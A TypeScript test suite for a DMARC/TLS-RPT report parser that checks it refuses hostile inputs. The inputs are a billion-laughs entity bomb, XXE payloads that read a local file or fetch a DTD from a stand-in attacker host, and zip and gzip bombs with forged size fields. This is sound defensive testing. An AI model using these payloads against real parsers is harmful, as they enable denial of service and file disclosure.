import { randomBytes } from 'node:crypto';
import { mkdtempSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import v8 from 'node:v8';
import vm from 'node:vm';
import { expect, test } from '@playwright/test';
import { bufferSource, parseAggregate, readReportFile, readReports, type ReadItem } from '../../src/receiver-reports/index.ts';
import { aggregateXml, gzip, recordXml, tlsReport, zipOf } from '../fixtures/receiver-reports/build.ts';

const MB = 1024 * 1024;
const tmp = () => mkdtempSync(path.join(os.tmpdir(), 'mc-rr-hostile-'));

function errorOf(items: ReadItem[]) {
  expect(items).toHaveLength(1);
  const r = items[0].result;
  if (r.ok) throw new Error(`expected a refusal, got a ${r.report.kind} report: ${JSON.stringify(r.report).slice(0, 200)}`);
  return r.error;
}

test('billion laughs: a DOCTYPE declaring entities is refused at once, nothing expanded', async () => {
  const levels = ['<!ENTITY lol "lol">'];
  for (let i = 1; i <= 9; i++) levels.push(`<!ENTITY lol${i} "${`&lol${i === 1 ? '' : i - 1};`.repeat(10)}">`);
  const xml = aggregateXml({ org: '&lol9;', prolog: `<?xml version="1.0"?>\n<!DOCTYPE feedback [\n${levels.join('\n')}\n]>` });
  const before = process.memoryUsage().heapUsed;
  const t0 = performance.now();
  const err = errorOf(await readReports(bufferSource('laughs.xml', Buffer.from(xml))));
  expect(err.kind).toBe('xml-entity-expansion');
  expect(err.message).toMatch(/^laughs\.xml: .*without expanding/);
  expect(performance.now() - t0).toBeLessThan(1000);
  // 10^9 "lol"s would be 3 GB; nothing near even 50 MB was allocated
  expect(process.memoryUsage().heapUsed - before).toBeLessThan(50 * MB);
  expect(err.message).not.toContain('lollol');
});

test('XXE: an external entity is refused and the file it names is never read into the output', async () => {
  const dir = tmp();
  const secret = path.join(dir, 'secret.txt');
  writeFileSync(secret, 'root:x:0:0:TOP-SECRET');
  for (const doctype of [
    `<!DOCTYPE feedback [ <!ENTITY xxe SYSTEM "file://${secret}"> ]>`,
    `<!DOCTYPE feedback SYSTEM "file://${secret}">`,
    '<!DOCTYPE feedback [ <!ENTITY % p SYSTEM "http://attacker.invalid/x.dtd"> %p; ]>',
  ]) {
    const file = path.join(dir, 'xxe.xml');
    writeFileSync(file, aggregateXml({ org: '&xxe;', prolog: `<?xml version="1.0"?>\n${doctype}` }));
    const items = await readReportFile(file, {}, 'xxe.xml');
    const err = errorOf(items);
    expect(err.kind, doctype).toBe('xml-external-entity');
    expect(err.message).toContain('xxe.xml');
    expect(JSON.stringify(items)).not.toContain('TOP-SECRET');
  }
  // a DOCTYPE without entities or external parts is harmless and read
  const plain = aggregateXml({ prolog: '<?xml version="1.0"?>\n<!DOCTYPE feedback>' });
  expect((await readReports(bufferSource('plain.xml', Buffer.from(plain))))[0].result.ok).toBe(true);
});

test('zip bomb: a member that inflates past the cap is refused before it fills memory', async () => {
  const zeros = Buffer.alloc(8 * MB);
  const bomb = zipOf('report.xml', zeros);
  expect(bomb.length).toBeLessThan(64 * 1024);
  const err = errorOf(await readReports(bufferSource('bomb.zip', bomb), { maxBytes: 2 * MB }));
  expect(err.kind).toBe('decompressed-too-large');
  expect(err.message).toMatch(/^bomb\.zip › report\.xml: .*limit of 2 MB/);
  // a member that lies about its size stops while streaming, never read to its end
  const liar = zipOf('report.xml', zeros, { declaredSize: 1000 });
  const lie = errorOf(await readReports(bufferSource('liar.zip', liar), { maxBytes: 2 * MB }));
  expect(lie.message).toContain('liar.zip › report.xml');
  expect(['decompressed-too-large', 'unknown-format']).toContain(lie.kind);
});

test('gzip bomb: the trailer refuses an honest bomb, the output limit and the byte counter stop lying ones at the cap', async () => {
  const bomb = gzip(Buffer.alloc(8 * MB));
  const err = errorOf(await readReports(bufferSource('bomb.xml.gz', bomb), { maxBytes: 2 * MB }));
  expect(err).toEqual({ kind: 'decompressed-too-large', message: expect.stringMatching(/^bomb\.xml\.gz: .*limit of 2 MB/) });
  // ISIZE rewritten to 1 kB, content valid XML whitespace (the parser itself would keep
  // reading): under 1 MB compressed, zlib's output limit stops it at the cap
  const padded = gzip(Buffer.concat([Buffer.from('<?xml version="1.0"?>\n<feedback>'), Buffer.alloc(8 * MB, 0x20)]));
  padded.writeUInt32LE(1024, padded.length - 4);
  const lie = errorOf(await readReports(bufferSource('liar.xml.gz', padded), { maxBytes: 2 * MB }));
  expect(lie).toEqual({ kind: 'decompressed-too-large', message: expect.stringMatching(/^liar\.xml\.gz: it inflates to more than 2097152 bytes/) });
  // over 1 MB compressed it is inflated as a stream: random base64 text (valid XML, hardly
  // compressible) inside <org_name>, lying trailer, from a file
  const dir = tmp();
  const file = path.join(dir, 'liar-big.xml.gz');
  const body = Buffer.from(
    `<?xml version="1.0"?><feedback><report_metadata><org_name>${randomBytes(3 * MB).toString('base64')}</org_name></report_metadata></feedback>`,
  );
  const big = gzip(body);
  expect(big.length).toBeGreaterThan(2 * MB);
  big.writeUInt32LE(1024, big.length - 4);
  writeFileSync(file, big);
  const streamed = errorOf(await readReportFile(file, { maxBytes: 1 * MB }, 'liar-big.xml.gz'));
  expect(streamed).toEqual({ kind: 'decompressed-too-large', message: expect.stringMatching(/^liar-big\.xml\.gz: it inflates to more than 1048576 bytes/) });
});

test('a 20,000-record report streams through in bounded memory', async () => {
  const N = 20_000;
  async function* generate(): AsyncGenerator<Buffer> {
    yield Buffer.from(aggregateXml({ records: [] }).replace('</feedback>', ''));
    let batch = '';
    for (let i = 0; i < N; i++) {
      batch += recordXml({ ip: `10.${(i >> 16) & 255}.${(i >> 8) & 255}.${i & 255}`, count: (i % 7) + 1 });
      if (batch.length > 256 * 1024) {
        yield Buffer.from(batch);
        batch = '';
      }
    }
    yield Buffer.from(batch + '</feedback>\n');
  }
  // retained heap after a full GC, so garbage of the parse does not count, only what it keeps
  v8.setFlagsFromString('--expose-gc');
  const gc = vm.runInNewContext('gc') as () => void;
  gc();
  const base = process.memoryUsage().heapUsed;
  let peak = 0;
  let seen = 0;
  let total = 0;
  const report = await parseAggregate(generate(), 'big.xml', {
    meta: () => {},
    record: (r, i) => {
      seen++;
      total += r.count;
      if (i % 2000 === 1999) {
        gc();
        peak = Math.max(peak, process.memoryUsage().heapUsed - base);
      }
    },
  });
  expect(report.recordCount).toBe(N);
  expect(seen).toBe(N);
  expect(report.totalCount).toBe(total);
  expect(report.records).toEqual([]);
  // ~12 MB of XML went through; keeping the 20,000 records would retain about 13 MB, streaming under 1
  expect(peak).toBeLessThan(4 * MB);
});

test('TLS-RPT with wrong JSON types is a clear error naming the field, not a half-read report', async () => {
  const cases: [string, (t: Record<string, any>) => void, RegExp][] = [
    ['organization-name', (t) => (t['organization-name'] = 42), /"organization-name" must be a non-empty string, is the number 42/],
    ['start-datetime', (t) => (t['date-range']['start-datetime'] = 1700000000), /"date-range\.start-datetime" must be a non-empty string, is the number/],
    ['end-datetime', (t) => (t['date-range']['end-datetime'] = 'yesterday'), /"date-range\.end-datetime" must be an RFC 3339 date-time/],
    ['contact-info', (t) => (t['contact-info'] = ['a@b']), /"contact-info" must be a non-empty string, is a list/],
    ['report-id', (t) => (t['report-id'] = null), /"report-id" must be a non-empty string, is null/],
    [
      'policy-domain',
      (t) => (t.policies[0].policy['policy-domain'] = ['company-y.example']),
      /"policies\[0\]\.policy\.policy-domain" must be a non-empty string, is a list/,
    ],
    [
      'string count',
      (t) => (t.policies[0].summary['total-successful-session-count'] = '5326'),
      /total-successful-session-count" must be a whole number ≥ 0, is the string "5326"/,
    ],
    [
      'negative count',
      (t) => (t.policies[0].summary['total-failure-session-count'] = -3),
      /total-failure-session-count" must be a whole number ≥ 0, is the number -3/,
    ],
    [
      'result-type',
      (t) => (t.policies[0]['failure-details'][0]['result-type'] = 7),
      /failure-details\[0\]\.result-type" must be a non-empty string, is the number 7/,
    ],
  ];
  for (const [label, mutate, message] of cases) {
    const t = tlsReport() as Record<string, any>;
    mutate(t);
    const err = errorOf(await readReports(bufferSource('types.json', Buffer.from(JSON.stringify(t)))));
    expect(err.kind, label).toBe('invalid-tlsrpt');
    expect(err.message, label).toMatch(/^types\.json: /);
    expect(err.message, label).toMatch(message);
  }
});
